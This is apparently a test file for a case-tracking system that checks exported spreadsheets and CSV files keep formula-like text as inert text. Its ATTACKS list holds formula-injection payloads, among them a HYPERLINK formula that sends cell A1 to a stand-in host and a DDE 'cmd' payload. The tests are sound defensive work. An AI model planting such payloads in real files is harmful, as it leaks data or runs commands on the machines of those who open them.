"""Text that wants to be a formula: in every spreadsheet that we write it is text, and comes back as it was."""

import csv
import io
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from casetrack.cases.ledgers.rejects import write_rejects
from casetrack.cases.ledgers.reports import ImportReport
from casetrack.cases.ledgers.workbooks import open_book
from casetrack.lib.formulas import as_it_was, kept_as_text
from reports.exporting.columns import Column, Listing
from reports.exporting.writing import WRITERS
from tests.cases.ledgers.books import dispute, ledger, send

NAME = Column("name", "名称")
ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://elsewhere.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    '","=1+1',
    '甲\n=1+1,"',
]
ANY = st.text(st.sampled_from("=+-@'\t\n\r＝,\";甲1 ") | st.characters(exclude_categories=["Cs", "Cc"]), max_size=12)


def exported(text: str, form: str, folder: str) -> bytes:
    path = Path(folder) / f"list.{form}"
    WRITERS[form](path, Listing("清单", [NAME], iter([{"name": text}]), 1))
    return path.read_bytes()


@pytest.mark.parametrize("text", ATTACKS)
def test_in_an_exported_workbook_it_is_text(text: str, tmp_path: Path) -> None:
    sheet = load_workbook(io.BytesIO(exported(text, "xlsx", str(tmp_path)))).worksheets[0]

    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", text.replace("\r", "_x000D_"))  # as workbooks write it


@pytest.mark.parametrize("text", ATTACKS)
def test_in_exported_text_no_field_begins_like_a_formula_and_it_comes_back(text: str, tmp_path: Path) -> None:
    written = exported(text, "csv", str(tmp_path))

    (sheet,) = open_book(written).sheets
    _, (read,) = list(sheet.rows)
    assert read == text
    _, (field,) = csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))
    assert field[0] not in "=+-@\t\r＝＋－＠"


@settings(max_examples=150, deadline=None)
@given(text=ANY)
@example(text="\r")
def test_any_text_comes_back_from_a_file_of_our_own(text: str) -> None:
    with TemporaryDirectory() as folder:
        (sheet,) = open_book(exported(text, "csv", folder)).sheets
        rows = list(sheet.rows)

    assert rows[1:] == [[text if text.strip() else None]]
    assert as_it_was(kept_as_text(text)) == text


@pytest.mark.django_db
@pytest.mark.usefixtures("committee")
@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("https://elsewhere.example","点此")', "@SUM(A1)", "+1", "'=1"])
def test_a_rejected_row_goes_back_as_text_and_comes_in_again_as_it_was(text: str) -> None:
    """Whoever puts rows right opens them in a spreadsheet: what a stranger wrote into a petition must not run there."""
    report = send(ledger(dispute(申请人=text, 受理日期="不详")))

    written = rejected(report)
    sheet = load_workbook(io.BytesIO(written)).worksheets[0]
    headings = [cell.value for cell in sheet[1]]
    cells = {heading: sheet.cell(2, place) for place, heading in enumerate(headings, start=1)}
    assert (cells["申请人"].value, cells["申请人"].data_type) == (text, "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    (again,) = open_book(written).sheets
    assert [row[headings.index("申请人")] for row in again.rows] == ["申请人", text]


def rejected(report: ImportReport) -> bytes:
    written = io.BytesIO()
    assert write_rejects(report, written) == 1
    return written.getvalue()
